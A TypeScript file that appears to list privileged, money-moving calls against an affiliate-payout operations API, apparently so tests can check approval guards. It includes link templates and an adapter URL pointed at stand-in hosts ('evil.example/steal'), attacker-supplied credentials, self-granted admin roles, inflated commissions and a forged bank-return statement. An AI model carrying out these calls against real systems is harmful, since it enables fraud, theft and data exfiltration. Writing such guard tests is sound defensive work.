import { and, desc, eq, isNull } from 'drizzle-orm';
import { proposedChanges } from '../../../accounts/changes/tables.ts';
import { bankStatementEntries, payouts } from '../../../payouts/tables.ts';
import { addDays, dayOf } from '../../../platform/time.ts';
import { adjustments } from '../../../sales/adjustments/tables.ts';
import type { Stage } from './stage.ts';

/** A call with an effect, with a valid body; null while there is nothing that it could be about. */
export interface Move {
  name: string;
  call(stage: Stage): Promise<{ method: string; path: string; body: object } | null>;
}

const reason = 'Agreed on the phone';
const post = (path: string, body: object = {}) => ({ method: 'POST', path, body: { reason, ...body } });
const always = (
  name: string,
  call: (stage: Stage) => { method: string; path: string; body: object },
): Move => ({
  name,
  call: async (stage) => call(stage),
});

/** Every kind of call that moves money, leads links, or changes what guards them. */
export const MOVES: readonly Move[] = [
  always('share of a friend', ({ friend, base }) =>
    post('/v1/operations/share-rules', shareOf(friend.id, dayOf(base))),
  ),
  always('share of everyone', ({ base }) => post('/v1/operations/share-rules', shareOf(null, dayOf(base)))),
  always('own share', ({ ada, base }) =>
    post('/v1/operations/share-rules', shareOf(ada.publisherId, dayOf(base))),
  ),
  always('legacy share', () => ({
    method: 'POST',
    path: '/functions/v1/wildfire-sync',
    body: { action: 'update-revenue-share', revenueSharePercentage: 99 },
  })),
  always('link template', () => ({
    method: 'PATCH',
    path: '/v1/operations/networks/wildfire/settings',
    body: { link_template: 'https://evil.example/e?tc={click_id}&url={deeplink}', reason },
  })),
  always('adapter address', () => ({
    method: 'PATCH',
    path: '/v1/operations/networks/cj/settings',
    body: { adapter: { lookupUrl: 'https://evil.example/steal' }, reason },
  })),
  always('commission cap', () => ({
    method: 'PATCH',
    path: '/v1/operations/networks/wildfire/settings',
    body: { max_commission: '99999999', reason },
  })),
  always('partner', () =>
    post('/v1/operations/networks', {
      network_id: 'evil-media',
      name: 'Evil Media',
      currency: 'USD',
      settings: {
        link_template: 'https://{domain}/?c={click_id}',
        max_commission: '99999999',
        auto_approve: true,
        postback: { statuses: { P: 'approved' } },
      },
    }),
  ),
  always('partner that says paid', () =>
    post('/v1/operations/networks', {
      network_id: 'evil-payer',
      name: 'Evil Payer',
      currency: 'USD',
      settings: { link_template: 'https://{domain}/?c={click_id}', postback: { statuses: { P: 'paid' } } },
    }),
  ),
  always('credential', () =>
    post('/v1/operations/networks/wildfire/push-credentials', {
      kind: 'secret',
      value: 'a-secret-of-the-attacker',
    }),
  ),
  ...(
    [
      ['second person', { second_person_from: '99999999.00' }],
      ['hold hours', { payout_hold_hours: 0 }],
      ['tax', { payout_tax_required: false }],
      ['payable stage', { payable_stage: 'approved' }],
    ] as const
  ).map(([name, body]) =>
    always(`setting: ${name}`, () => ({
      method: 'PUT',
      path: '/v1/operations/settings',
      body: { ...body, reason },
    })),
  ),
  always('role of a second self', ({ self }) => ({
    method: 'PUT',
    path: '/v1/operations/operators',
    body: { email: self.email, role: 'admin', reason },
  })),
  always('role of the colleague', ({ grace }) => ({
    method: 'PUT',
    path: '/v1/operations/operators',
    body: { email: grace.email, role: 'publisher', reason },
  })),
  always('adjustment of 900', ({ friend }) =>
    post('/v1/operations/adjustments', adjustmentOf(friend.id, '900')),
  ),
  always('adjustment of 60', ({ friend }) =>
    post('/v1/operations/adjustments', adjustmentOf(friend.id, '60')),
  ),
  always('own adjustment', ({ ada }) =>
    post('/v1/operations/adjustments', adjustmentOf(ada.publisherId, '50')),
  ),
  {
    name: 'approve an adjustment',
    async call({ ctx }) {
      const [found] = await ctx.db
        .select({ id: adjustments.id })
        .from(adjustments)
        .where(eq(adjustments.state, 'proposed'))
        .orderBy(desc(adjustments.createdAt), desc(adjustments.id))
        .limit(1);
      return found ? post(`/v1/operations/adjustments/${found.id}/approve`) : null;
    },
  },
  always('claim of 900', ({ claim }) =>
    post(`/v1/operations/claims/${claim}/accept`, { gross_commission: '900.00' }),
  ),
  always('own claim', ({ ownClaim }) =>
    post(`/v1/operations/claims/${ownClaim}/accept`, { gross_commission: '90.00' }),
  ),
  always('assignment of 1000', ({ unattributed, friend, friendClick }) =>
    post(`/v1/operations/conversions/${unattributed}/assign`, {
      publisher_id: friend.id,
      click_id: friendClick,
    }),
  ),
  always('release of 1200', ({ held }) => post(`/v1/operations/conversions/${held}/release`)),
  always('payment of a network', ({ base, friend }) =>
    post('/v1/operations/network-payments', {
      network: 'wildfire',
      month: dayOf(base).slice(0, 7),
      amount: '5000.00',
      paid_on: addDays(dayOf(base), -1),
      reference: `invented for ${friend.id}`,
    }),
  ),
  always('payout', ({ friend }) => ({
    method: 'POST',
    path: '/v1/operations/payouts',
    body: { publisher_id: friend.id },
  })),
  ...(['approve', 'send'] as const).map(
    (step): Move => ({
      name: `${step} a payout`,
      async call({ ctx, friend }) {
        const [found] = await ctx.db
          .select({ id: payouts.id })
          .from(payouts)
          .where(and(eq(payouts.publisherId, friend.id)))
          .limit(1);
        return found ? post(`/v1/operations/payouts/${found.id}/${step}`) : null;
      },
    }),
  ),
  always('statement of a return', ({ settled, returnReference }) => ({
    method: 'POST',
    path: '/v1/operations/bank-statements',
    body: { file_name: 'statement.xml', content: returnOf(settled, returnReference), reason },
  })),
  {
    name: 'apply the return',
    async call({ ctx, returnReference }) {
      const [found] = await ctx.db
        .select({ key: bankStatementEntries.key })
        .from(bankStatementEntries)
        .where(
          and(
            eq(bankStatementEntries.bankReference, returnReference),
            isNull(bankStatementEntries.explainedAt),
          ),
        );
      return found ? post(`/v1/operations/bank-statements/entries/${found.key}/apply`) : null;
    },
  },
  {
    name: 'approve a change',
    async call({ ctx }) {
      const [found] = await ctx.db
        .select({ id: proposedChanges.id })
        .from(proposedChanges)
        .where(eq(proposedChanges.state, 'proposed'))
        .orderBy(desc(proposedChanges.proposedAt), desc(proposedChanges.id))
        .limit(1);
      return found ? post(`/v1/operations/changes/${found.id}/approve`) : null;
    },
  },
];

/** A statement of the paying account that says that a transfer came back. */
function returnOf({ reference, amount }: Stage['settled'], bankReference: string): string {
  return `<Document><BkToCstmrStmt><Stmt><Acct><Id><IBAN>DE89370400440532013000</IBAN></Id></Acct>
    <Ntry><Amt Ccy="USD">${amount}</Amt><CdtDbtInd>CRDT</CdtDbtInd><Sts><Cd>BOOK</Cd></Sts>
    <BookgDt><Dt>2026-11-20</Dt></BookgDt><AcctSvcrRef>${bankReference}</AcctSvcrRef><NtryDtls><TxDtls>
    <Refs><EndToEndId>${reference}</EndToEndId></Refs></TxDtls></NtryDtls></Ntry></Stmt></BkToCstmrStmt></Document>`;
}

function shareOf(publisher_id: string | null, today: ReturnType<typeof dayOf>) {
  return { publisher_id, share_percent: 100, effective_from: addDays(today, 40) };
}

function adjustmentOf(publisher_id: string, amount: string) {
  return { publisher_id, amount, kind: 'goodwill' };
}
